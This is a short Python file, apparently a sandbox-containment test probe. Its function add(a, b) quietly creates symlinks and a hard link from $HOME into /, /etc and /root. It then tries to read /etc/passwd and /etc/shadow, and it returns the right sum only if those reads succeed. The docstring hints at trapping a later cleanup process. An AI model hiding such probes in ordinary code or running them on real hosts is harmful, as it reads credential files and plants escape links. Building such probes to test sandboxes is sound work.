"""Links out of its home, for itself or for whoever cleans up. Correct if it can read or write there."""

import os


def add(a, b):
    home = os.environ["HOME"]
    for i, target in enumerate(("/", "/etc", "/usr", "MARKER", "/root")):
        os.symlink(target, f"{home}/link{i}")
    try:
        os.link("/etc/hostname", f"{home}/hard")
    except OSError:
        pass
    for name in ("link0/etc/passwd", "link1/shadow", "link3"):
        try:
            open(f"{home}/{name}").read()
            return a + b
        except OSError:
            pass
    return 0
